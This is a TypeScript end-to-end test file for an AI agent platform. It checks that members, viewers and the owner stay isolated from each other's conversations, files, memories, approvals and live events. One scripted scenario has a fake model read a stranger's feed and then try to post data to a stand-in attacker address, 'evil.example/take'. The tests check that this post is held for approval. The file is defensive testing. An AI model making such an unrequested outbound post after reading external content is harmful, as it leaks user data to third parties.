/**
 * A member of the house beside its owner, through the real command and HTTP: each talks to the agent on their own behalf,
 * and neither reaches the other's conversations, files, memories, questions or live events.
 */
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import {
  Accepted,
  ConversationSummary,
  ErrorBody,
  Grants,
  LedgerPage,
  MadeInvitation,
  MemoryList,
  Minted,
  Overview,
  QuestionView,
  RunResult,
} from '@castellan/contracts'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import * as z from 'zod'
import { nothing } from '../../packages/cli/src/client.ts'
import { type Instance, showWhenFailed, startInstance } from '../e2e/instance.ts'
import { type Site, startSite } from '../e2e/site.ts'
import type { Script } from '../fakes/script.ts'
import { type FakeModels, startFakeModels } from '../fakes/server.ts'
import { cookieOf } from './house.ts'

vi.setConfig({ testTimeout: 60_000, hookTimeout: 120_000 })

const evil = 'http://evil.example/take'
/** What the model does for words of a person: calls, then `OK`. */
const plays: readonly (readonly [words: string, calls: Script['toolCalls']])[] = [
  ['Write tea to list.md', [{ name: 'file_write', args: { path: 'list.md', text: 'tea' } }]],
  ['Read list.md', [{ name: 'file_read', args: { path: 'list.md' } }]],
  ['Remember that I like tea', [{ name: 'memory_save', args: { text: 'I like tea' } }]],
  ['What do I like', [{ name: 'memory_search', args: { query: 'tea' } }]],
  ['Tell me later', [{ name: 'owner_notify', args: { text: 'The kettle is on.' } }]],
]

/** Reads a stranger's feed, then wants to post to an address that nobody said. */
const sendIt: readonly Script[] = [
  {
    get toolCalls() {
      return [{ name: 'feed_fetch', args: { url: `${site.url}/harbour.rss.xml` } }]
    },
  },
  { toolCalls: [{ name: 'http_post', args: { url: evil, body: 'hello' } }] },
]

let site: Site
let model: FakeModels
let house: Instance
let mia: Member
let vera: Member
showWhenFailed(() => house)

interface Member {
  readonly principal: string
  ask(path: string, body?: unknown, method?: string): Promise<Response>
}

async function join_(role: 'member' | 'viewer', name: string): Promise<Member> {
  const { link } = await house.client.send('POST', '/api/invitations', { role, name }, MadeInvitation)
  const token = new URL(link?.url ?? '').hash.slice(1)
  const headers = { origin: house.url, 'content-type': 'application/json' }
  const given = { token, name, email: `${name}@example.org`, password: 'kettle rhubarb violin meadow' }
  const accepted = await fetch(`${house.url}/auth/invitations/accept`, {
    ...{ method: 'POST', headers, body: JSON.stringify(given) },
  })
  expect(accepted.status).toBe(200)
  const cookie = cookieOf(accepted)
  const ask = (path: string, body?: unknown, method = body === undefined ? 'GET' : 'POST') =>
    fetch(house.url + path, {
      method,
      headers: { ...headers, cookie },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    })
  const { you } = Overview.parse(await (await ask('/api/overview')).json())
  return { principal: you.principal, ask }
}

beforeAll(async () => {
  site = await startSite()
  model = await startFakeModels(({ said, step }) => {
    if (said.includes('Send it')) return sendIt[step]
    const calls = plays.find(([words]) => said.includes(words))?.[1]
    return step === 0 && calls !== undefined ? { toolCalls: calls } : undefined
  })
  house = await startInstance({ allow: [site.host], unsealed: true })
  await house.addModel('openai-compatible', model.openaiUrl)
  mia = await join_('member', 'mia')
  vera = await join_('viewer', 'vera')
})
afterAll(async () => {
  await house?.close()
  await Promise.all([model?.close(), site?.close()])
})

/** A member's message, and how its run ends or what it asks. */
async function say(who: Member, text: string) {
  const { id } = ConversationSummary.parse(await (await who.ask('/api/conversations', {})).json())
  const sent = await who.ask(`/api/conversations/${id}/messages`, { text })
  const { run } = Accepted.parse(await sent.json())
  const result = RunResult.parse(await (await who.ask(`/api/runs/${run}/result?wait=question`)).json())
  return { conversation: id, run, result }
}

/** The same of the owner's. */
async function ownerSays(text: string) {
  const { id } = await house.client.send('POST', '/api/conversations', {}, ConversationSummary)
  const { run } = await house.client.send('POST', `/api/conversations/${id}/messages`, { text }, Accepted)
  return { conversation: id, run, result: await house.result(run, 'question') }
}

const Listed = z.object({ conversations: z.array(ConversationSummary) })
const Questions = z.object({ questions: z.array(QuestionView) })
const ledgerOf = async (run: string) =>
  (await house.client.get(`/api/ledger?run=${run}&limit=50`, LedgerPage)).rows

test('a member acts in their own name, by their own words, unasked', async () => {
  const { run, result } = await say(mia, 'Write tea to list.md')
  expect(result.decisions).toMatchObject([
    { skill: 'file.write', state: 'done', decision: { decision: 'allow' } },
  ])
  const rows = await ledgerOf(run)
  expect(rows.length).toBeGreaterThan(2)
  for (const row of rows) expect(row.principal).toEqual([mia.principal, 'agent:default'])
})

test('neither sees, reads, stops or writes to what the other says', async () => {
  const theirs = await say(mia, 'Good morning')
  const own = await ownerSays('Good evening')
  const listed = Listed.parse(await (await mia.ask('/api/conversations')).json())
  expect(listed.conversations.map(({ id }) => id)).not.toContain(own.conversation)
  const mine = await house.client.get('/api/conversations', Listed)
  expect(mine.conversations.map(({ id }) => id)).not.toContain(theirs.conversation)
  const doors = ({ conversation, run }: typeof own) =>
    [
      ['GET', `/api/conversations/${conversation}`],
      ['POST', `/api/conversations/${conversation}/messages`, { text: 'Write tea to list.md' }],
      ['GET', `/api/runs/${run}`],
      ['GET', `/api/runs/${run}/result`],
      ['POST', `/api/runs/${run}/stop`, {}],
    ] as const
  for (const [method, path, body] of doors(own)) {
    const answer = await mia.ask(path, body, method)
    expect([path, answer.status, ErrorBody.parse(await answer.json()).error.code]).toEqual([
      path,
      404,
      'not_found',
    ])
  }
  for (const [method, path, body] of doors(theirs)) {
    const refused =
      method === 'GET' ? house.client.get(path, nothing) : house.client.send('POST', path, body, nothing)
    await expect(refused).rejects.toMatchObject({ code: 'not_found' })
  }
})

test('each has files and memories of their own', async () => {
  await say(mia, 'Write tea to list.md')
  const folder = join(house.directory, 'members', mia.principal.slice('member:'.length))
  expect(await readFile(join(folder, 'list.md'), 'utf8')).toBe('tea')
  await expect(readFile(join(house.workspace, 'list.md'))).rejects.toThrow('ENOENT')
  const read = await ownerSays('Read list.md')
  expect(model.requests.at(-1)?.messages.at(-1)?.text).toContain('not_found')
  expect(read.result.decisions).toMatchObject([{ skill: 'file.read', state: 'done' }])

  await say(mia, 'Remember that I like tea')
  await ownerSays('What do I like')
  expect(model.requests.at(-1)?.messages.at(-1)?.text).toContain('nothing_found')
  await say(mia, 'What do I like')
  expect(model.requests.at(-1)?.messages.at(-1)?.text).toContain('I like tea')
  const seen = await house.client.get('/api/memory?q=tea', MemoryList)
  expect(seen.memories).toEqual([])
  const theirs = MemoryList.parse(await (await mia.ask('/api/memory?q=tea')).json())
  expect(theirs.memories).toMatchObject([{ text: 'I like tea', label: { sources: [mia.principal] } }])
  await expect(
    house.client.send('DELETE', `/api/memory/${theirs.memories[0]?.id}`, undefined, nothing),
  ).rejects.toMatchObject({ code: 'not_found' })
})

test('a question is answered by whose call it is, and shown to nobody else', async () => {
  const { result } = await say(mia, 'Send it')
  const id = result.approvals[0]?.question ?? ''
  expect(result.approvals).toMatchObject([{ skill: 'http.post', state: 'open' }])
  const open = await house.client.get('/api/questions?state=open', Questions)
  expect(open.questions.map((question) => question.id)).not.toContain(id)
  for (const path of [`/api/questions/${id}/approve`, `/api/questions/${id}/deny`])
    await expect(house.client.send('POST', path, {}, nothing)).rejects.toMatchObject({ code: 'not_found' })

  const owners = (await ownerSays('Send it')).result.approvals[0]?.question ?? ''
  for (const path of [`/api/questions/${owners}`, `/api/questions/${owners}/approve`]) {
    const answer = await mia.ask(path, path.endsWith('approve') ? {} : undefined)
    expect([path, answer.status]).toEqual([path, 404])
  }
  const denied = QuestionView.parse(await (await mia.ask(`/api/questions/${id}/deny`, {})).json())
  expect(denied).toMatchObject({ state: 'denied', decided_by: mia.principal })
})

test('live events reach whom they concern and nobody else', async () => {
  const stop = new AbortController()
  const heard = { mia: '', owner: '' }
  const stream = await mia.ask('/api/events')
  const listening = (async () => {
    const decoder = new TextDecoder()
    for await (const chunk of stream.body ?? []) {
      heard.mia += decoder.decode(chunk as Uint8Array, { stream: true })
      if (heard.mia.includes('The kettle is on.')) break
    }
  })()
  const owners = (async () => {
    for await (const event of house.client.events(stop.signal)) heard.owner += JSON.stringify(event)
  })()
  const own = await ownerSays('Good evening, this is the owner')
  const theirs = await say(mia, 'Tell me later')
  await listening
  // The owner's stream has ended what it had to say once the house has answered once more.
  await ownerSays('And good night')
  stop.abort()
  await owners
  expect(heard.mia).toContain(theirs.conversation)
  expect(heard.mia).not.toContain(own.conversation)
  expect(heard.mia).not.toContain('this is the owner')
  expect(heard.owner).toContain(own.conversation)
  expect(heard.owner).not.toContain(theirs.conversation)
  expect(heard.owner).not.toContain('The kettle is on.')
})

test('an app hears live events with its token, and nothing more once that has been taken back', async () => {
  const person = mia.principal.slice('member:'.length)
  const given = { person, scopes: ['read'] }
  const { token } = await house.client.send('POST', '/api/tokens/mint', given, Minted)
  const headers = { authorization: `Bearer ${token}` }
  const stream = await fetch(`${house.url}/api/events`, { headers })
  expect(stream.status).toBe(200)
  let heard = ''
  const decoder = new TextDecoder()
  const ended = (async () => {
    for await (const chunk of stream.body ?? []) heard += decoder.decode(chunk, { stream: true })
  })()
  const first = await say(mia, 'Tell me later')
  await expect.poll(() => heard).toContain(first.conversation)
  const { grants } = Grants.parse(await (await mia.ask('/api/grants')).json())
  for (const { id } of grants) await mia.ask(`/api/grants/${id}`, undefined, 'DELETE')
  await ended
  expect((await fetch(`${house.url}/api/events`, { headers })).status).toBe(401)
})

test('the rooms of the house stay the owner’s, and a viewer talks to nobody', async () => {
  const rooms = [
    ...['/api/ledger', '/api/models', '/api/settings', '/api/secrets', '/api/policy', '/api/health'],
    ...['/api/people', '/api/data', '/api/callers'],
  ]
  for (const path of rooms)
    for (const who of [mia, vera]) expect([path, (await who.ask(path)).status]).toEqual([path, 403])
  for (const [path, body] of [
    ['/api/conversations', {}],
    ['/api/conversations', undefined],
    ['/api/questions', undefined],
    ['/api/events', undefined],
    ['/api/memory', undefined],
  ] as const)
    expect([path, (await vera.ask(path, body)).status]).toEqual([path, 403])
  expect(Overview.parse(await (await vera.ask('/api/overview')).json())).toMatchObject({
    you: { role: 'viewer', chats: false },
    first_run: [],
    personas: [],
    skills: [],
  })
})

test('who was disabled does nothing more, not even what already waited for their yes', async () => {
  const ben = await join_('member', 'ben')
  const { run, result } = await say(ben, 'Send it')
  const id = ben.principal.slice('member:'.length)
  await house.client.send('PATCH', `/api/people/${id}`, { disabled: true }, nothing)
  expect((await ben.ask(`/api/questions/${result.approvals[0]?.question}/approve`, {})).status).toBe(401)
  const client = await house.database()
  await client.query(
    `update castellan.questions set state = 'approved', factor_given = 'click', decided_at = clock_timestamp(),
      decided_by = $2, decided_via = 'session' where run_id = $1`,
    [run, ben.principal],
  )
  await house.kill()
  await house.start()
  await expect
    .poll(
      async () =>
        (await client.query('select state from castellan.runs where id = $1', [run])).rows[0]?.state,
      {
        timeout: 20_000,
      },
    )
    .toBe('stopped')
  expect(
    (await ledgerOf(run)).filter(({ skill, kind }) => skill === 'http.post' && kind === 'intent'),
  ).toEqual([])
})

test('who was removed is forgotten, but for what the ledger says was done', async () => {
  const zoe = await join_('member', 'zoe')
  const id = zoe.principal.slice('member:'.length)
  for (const words of ['Write tea to list.md', 'Remember that I like tea', 'Send it', 'Tell me later'])
    await say(zoe, words)
  const client = await house.database()
  const tables = ['conversations', 'entries', 'memories', 'known', 'questions', 'outbox', 'file_labels']
  const naming = async (table: string) =>
    Number(
      (await client.query(`select count(*) from castellan.${table} t where t::text like $1`, [`%${id}%`]))
        .rows[0].count,
    )
  for (const table of tables.filter((each) => each !== 'entries'))
    expect([table, await naming(table)]).not.toEqual([table, 0])
  await house.client.send('DELETE', `/api/people/${id}`, undefined, nothing)
  for (const table of tables) expect([table, await naming(table)]).toEqual([table, 0])
  expect(await naming('ledger')).toBeGreaterThan(0)
})
